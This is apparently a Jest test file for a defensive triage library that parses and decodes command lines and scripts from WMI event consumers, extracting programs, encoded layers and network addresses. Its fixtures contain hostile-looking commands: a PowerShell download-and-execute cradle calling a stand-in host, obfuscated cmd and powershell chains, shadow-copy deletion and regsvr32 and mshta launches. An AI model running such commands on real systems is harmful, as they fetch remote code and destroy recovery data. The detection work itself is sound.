import { createHash } from 'node:crypto';
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { defang, readPayload, type Payload, type PayloadSource } from '../../../lib/triage';

const SECRET = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/b.ps1')";

function read(destination: string, more: Partial<PayloadSource> = {}): Payload {
  return readPayload({ consumerType: 'Command Line', destination, ...more });
}

function names(payload: Payload): string[] {
  // A line with %…% is read in two ways, so that a program may be there twice.
  return [...new Set(payload.programs.map(({ name }) => name))];
}

function wide(text: string): string {
  return Buffer.from(text, 'utf16le').toString('base64');
}

function sourceText(payload: Payload, number: number): string | undefined {
  const source = payload.layers[number]?.source;
  return source === undefined || source === null
    ? undefined
    : payload.layers[source.layer]?.text.slice(source.span.start, source.span.end);
}

describe('the program of a command line', () => {
  test.each([
    ['C:\\Program Files\\Vendor X\\a.exe -b', 'a', 'C:\\Program Files\\Vendor X\\a.exe', ['-b']],
    ['"C:\\Program Files\\a.exe"-b c', 'a', 'C:\\Program Files\\a.exe', ['-b', 'c']],
    ['C:/Windows/System32/CMD.EXE /?', 'cmd', 'C:/Windows/System32/CMD.EXE', ['/?']],
    ['cmd.exe. /?', 'cmd', 'cmd.exe.', ['/?']],
    ['C:\\Windows\\System32\\cmd /c x.exe', 'cmd', 'C:\\Windows\\System32\\cmd', ['/c', 'x.exe']],
    ['a b.exe', 'a', 'a', ['b.exe']],
  ])('%s', (line, name, path, words) => {
    const [program] = read(line).programs;
    expect(program).toMatchObject({ name, path });
    expect(program?.arguments.map(({ text }) => text)).toEqual(words);
  });

  test('paths that CreateProcess tries before it are candidates', () => {
    expect(read('C:\\Program Files\\Vendor X\\a.exe -b').programs[0]?.candidates).toEqual([
      'C:\\Program',
      'C:\\Program Files\\Vendor',
    ]);
  });

  test('has its place in the recorded value', () => {
    const value = ' "\\"C:\\\\Program Files\\\\a.exe\\" -x \\"b c\\""';
    const payload = read(value);
    expect(payload.text).toBe('"C:\\Program Files\\a.exe" -x "b c"');
    const [program] = payload.programs;
    expect(value.slice(program?.at.span.start, program?.at.span.end)).toBe('C:\\\\Program Files\\\\a.exe');
    expect(program?.arguments.map(({ at }) => value.slice(at.span.start, at.span.end))).toEqual(['-x', 'b c']);
  });
});

describe('interpreters in interpreters', () => {
  test.each([
    ['cmd /c powershell -enc x', ['cmd', 'powershell']],
    ['cmd.exe /d/s/c"pow^er"^shell -nop', ['cmd', 'powershell']],
    [
      'cmd /c echo a & certutil -decode a b && (start "" /b wscript a.vbs) | more',
      ['cmd', 'echo', 'certutil', 'wscript', 'more'],
    ],
    ['cmd /c "set x=power& set y=shell& call %x%%y% -nop"', ['cmd', 'powershell']],
    ['cmd /v:on /c "set x=wscript&!x! a.vbs"', ['cmd', 'wscript']],
    ["cmd /c for /f %i in ('whoami') do net user %i /delete", ['cmd', 'for', 'whoami', 'net']],
    ['cmd /c if exist C:\\a.exe @call C:\\a.exe', ['cmd', 'a']],
    ['%COMSPEC% /c whoami', ['cmd', 'whoami']],
    ['vssadmin del%x%ete shadows', ['vssadmin']],
    ['pow%Name%ershell -nop', ['pow%name%ershell', 'powershell']],
    ['forfiles /m a /c "cmd /c calc"', ['forfiles', 'cmd', 'calc']],
    ['wmic /node:a process call create "powershell -nop"', ['wmic', 'powershell']],
    ['powershell -c "cmd /c whoami; & \'C:\\a\\b.exe\' -x"', ['powershell', 'cmd', 'whoami', 'b']],
    ['powershell Start-Process -FilePath mshta -ArgumentList a', ['powershell', 'start-process', 'mshta']],
    ['rundll32 shell32.dll,ShellExec_RunDLL cmd /c calc', ['rundll32', 'cmd', 'calc']],
    ['mshta vbscript:CreateObject("WScript.Shell").Run("powershell -nop",0)(window.close)', ['mshta', 'powershell']],
    ['sc create a binPath= "cmd /c calc"', ['sc', 'cmd', 'calc']],
    ['schtasks /create /tr "wscript a.vbs"', ['schtasks', 'wscript']],
  ])('%s', (line, expected) => {
    expect(names(read(line)).sort()).toEqual([...expected].sort());
  });

  test('the arguments of ExecutablePath are those of the command line', () => {
    const payload = read(`-nop -enc ${wide('calc')}`, { executablePath: 'C:\\Program Files\\PowerShell\\7\\pwsh.exe' });
    expect(names(payload)).toContain('pwsh');
    expect(payload.switches.map(({ name }) => name)).toEqual(['noprofile', 'encodedcommand']);
    expect(payload.layers.map(({ field, text }) => field ?? text)).toEqual(['Destination', 'ExecutablePath', 'calc']);
  });
});

describe('layers', () => {
  test.each([
    ['UTF-16LE', Buffer.from(SECRET, 'utf16le'), ['base64', 'UTF-16LE']],
    ['gzip', gzipSync(SECRET), ['base64', 'gzip', '8-bit']],
    ['zlib', deflateSync(SECRET), ['base64', 'zlib', '8-bit']],
    ['gzip in gzip', gzipSync(gzipSync(SECRET)), ['base64', 'gzip', 'gzip', '8-bit']],
  ])('%s in FromBase64String', (_name, bytes, made) => {
    const blob = bytes.toString('base64');
    const payload = read(`powershell -c "$a=[Convert]::FromBase64String('${blob}')"`);
    const layer = payload.layers[1];
    expect(layer).toMatchObject({ text: SECRET, made, note: null });
    expect(sourceText(payload, 1)).toBe(blob);
    expect(payload.addresses.map(({ host, at }) => [host, at.layer])).toEqual([['a.example', 1]]);
  });

  test('raw deflate where the script speaks of it', () => {
    const blob = deflateRawSync(SECRET).toString('base64');
    const payload = read(`powershell "IO.Compression.DeflateStream([Convert]::FromBase64String('${blob}'))"`);
    expect(payload.layers[1]).toMatchObject({ text: SECRET, made: ['base64', 'deflate', '8-bit'] });
  });

  test('a layer in a layer, with the hash of its bytes', () => {
    const inner = gzipSync(SECRET).toString('base64');
    const outer = `FromBase64String('${inner}')`;
    const payload = read(`cmd /c powershell -e ${wide(outer)}`);
    expect(payload.layers.map(({ text }) => text).slice(1)).toEqual([outer, SECRET]);
    expect(payload.layers[2]?.source).toEqual({ layer: 1, span: { start: 18, end: 18 + inner.length } });
    expect(payload.layers[1]?.sha256).toBe(createHash('sha256').update(Buffer.from(outer, 'utf16le')).digest('hex'));
    expect(payload.layers[2]?.sha256).toBe(createHash('sha256').update(SECRET).digest('hex'));
  });

  test('hex and lists of bytes', () => {
    expect(read(`powershell -c "$h='${Buffer.from(SECRET).toString('hex')}'"`).layers[1]?.text).toBe(SECRET);
    expect(read(`powershell -c "[byte[]]$b=${[...Buffer.from(SECRET)].join(',')}"`).layers[1]?.text).toBe(SECRET);
  });

  test('a program and serialised objects are told by their first bytes', () => {
    const script = (bytes: Buffer): string => `x = "${bytes.toString('base64')}" ' base64`;
    const program = Buffer.concat([Buffer.from('MZ\x90\0\x03'), Buffer.alloc(60, 0x81)]);
    const objects = Buffer.concat([Buffer.from([0, 1, 0, 0, 0, 255, 255, 255, 255, 1]), Buffer.alloc(60, 0x81)]);
    const notes = [program, objects].map(
      (bytes) => readPayload({ consumerType: 'Script', destination: script(bytes) }).layers[1],
    );
    expect(notes.map((layer) => [layer?.language, layer?.note])).toEqual([
      ['bytes', 'a Windows program (MZ)'],
      ['bytes', 'serialized .NET objects'],
    ]);
  });

  test('8-bit text for -EncodedCommand is read, and said not to run', () => {
    const payload = read(`powershell -enc ${Buffer.from(SECRET).toString('base64')}`);
    expect(payload.layers[1]).toMatchObject({ text: SECRET, made: ['base64', '8-bit'] });
    expect(payload.unreadable.map(({ reason }) => reason)).toEqual([
      'the value of -EncodedCommand is 8-bit text: PowerShell reads UTF-16LE and would not run it',
    ]);
  });

  test('a stream that is cut gives what can be read, and says so', () => {
    const blob = gzipSync(
      SECRET.repeat(40) +
        Buffer.alloc(300)
          .map((_, index) => ((index * 7) % 90) + 32)
          .toString(),
    ).toString('base64');
    const [, layer] = read(`powershell "FromBase64String('${blob.slice(0, Math.floor(blob.length / 2))}')"`).layers;
    expect(layer?.text.startsWith('IEX (')).toBe(true);
    expect(layer?.note).toBe('the gzip stream is cut off or damaged: this is what could be read');
  });

  test('a bomb ends at the limit', () => {
    const payload = read(
      `powershell "FromBase64String('${gzipSync(Buffer.alloc(50_000_000, 65)).toString('base64')}')"`,
    );
    expect(payload.stopped).toBe('more than 1048576 bytes decoded');
    expect(payload.layers.slice(1).reduce((sum, { bytes }) => sum + bytes, 0)).toBeLessThanOrEqual(1_048_576);
  });

  test('five layers above each other, not more', () => {
    let text = 'calc';
    for (let depth = 0; depth < 6; depth++) text = `powershell -enc ${wide(text)}`;
    const payload = read(text);
    expect(payload.layers).toHaveLength(6);
    expect(payload.stopped).toBe('more than 5 layers');
  });

  test.each([
    'C:\\Tools\\a.exe 3b0d7a5e9c4f4b6f8f0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60',
    'C:\\Tools\\a.exe {12345678-1234-1234-1234-123456789abc} 10.20.30.40 1,2,3',
    'C:\\Tools\\AVeryLongNameOfAProgramThatLooksLikeBase64ButIsNone.exe',
  ])('none in %s', (line) => {
    expect(read(line).layers).toHaveLength(1);
  });
});

describe('an ActiveScript', () => {
  test('objects, command lines and addresses, not those of comments', () => {
    const destination =
      'Set s = CreateObject("WScript" & ".Shell")\ns.Run "%COMSPEC% /c whoami", 0 \' http://no.example/\nu = "http://yes.example/a"';
    const payload = readPayload({ consumerType: 'Script', destination });
    expect(payload.layers[0]?.language).toBe('vbscript');
    expect(names(payload)).toEqual(expect.arrayContaining(['cmd', 'whoami']));
    expect(new Set(payload.addresses.map(({ host }) => host))).toEqual(new Set(['yes.example']));
    expect(payload.layers[1]?.text).toContain('CreateObject("WScript.Shell")');
  });

  test.each([
    ['var a = new ActiveXObject("x");', null, 'jscript'],
    ['Dim a\nSet a = Nothing', null, 'vbscript'],
    ['a = 1', null, 'script'],
    ['a = 1', 'JScript', 'jscript'],
    ['a = 1', 'VBScript.Encode', 'vbscript'],
  ])('%s (%s): %s', (destination, scriptingEngine, language) => {
    expect(
      readPayload({ consumerType: 'ActiveScriptEventConsumer', destination, scriptingEngine }).layers[0]?.language,
    ).toBe(language);
  });

  test('ScriptFileName is a file that is run', () => {
    const payload = readPayload({
      consumerType: 'Script',
      destination: '',
      scriptFileName: 'C:\\Users\\Public\\a.vbs',
    });
    expect(payload.files).toMatchObject([{ text: 'C:\\Users\\Public\\a.vbs', role: 'script', at: { layer: 1 } }]);
  });
});

describe('addresses', () => {
  test.each([
    ['a.exe https://user@a.example:8443/x?y#z', 'a.example'],
    ['a.exe \\\\srv.corp.example\\share\\a', 'srv.corp.example'],
    ['a.exe \\\\srv@SSL@443\\share\\a', 'srv@SSL@443'],
    ['regsvr32 /s /i:\\\\srv\\share\\a.sct scrobj.dll', 'srv'],
    ['cmd /c curl ht^tp://a.example/b', 'a.example'],
    ['a.exe http://[2001:db8::1]/x', '[2001:db8::1]'],
  ])('%s', (line, host) => {
    expect(read(line).addresses.map((address) => address.host)).toEqual([host]);
  });

  test.each([
    'a.exe \\\\.\\pipe\\x',
    'a.exe C:\\\\Windows\\\\a',
    'a.exe http://www.w3.org/2001/XMLSchema',
    'a.exe http://.*',
  ])('none in %s', (line) => {
    expect(read(line).addresses).toEqual([]);
  });

  test.each([
    ['iwr https://a.example/b.ps1', 'iwr hxxps://a[.]example/b.ps1'],
    ['ftp://a.b/c \\\\s.x\\y\\z', 'fxp://a[.]b/c \\\\s[.]x\\y\\z'],
    ['nothing here', 'nothing here'],
  ])('defanged: %s', (text, expected) => {
    expect(defang(text)).toBe(expected);
  });
});

test('a value in another type, or of a class that runs nothing, is not read as a command', () => {
  expect(readPayload({ consumerType: 'Event Log', destination: 'powershell -enc x' })).toMatchObject({
    kind: 'other',
    programs: [],
  });
  expect(readPayload({ consumerType: 'Log File', destination: 'C:\\a.bat' }).files).toMatchObject([
    { role: 'written' },
  ]);
  expect(readPayload({ consumerType: null, destination: 'cmd /c a' }).kind).toBe('command-line');
});
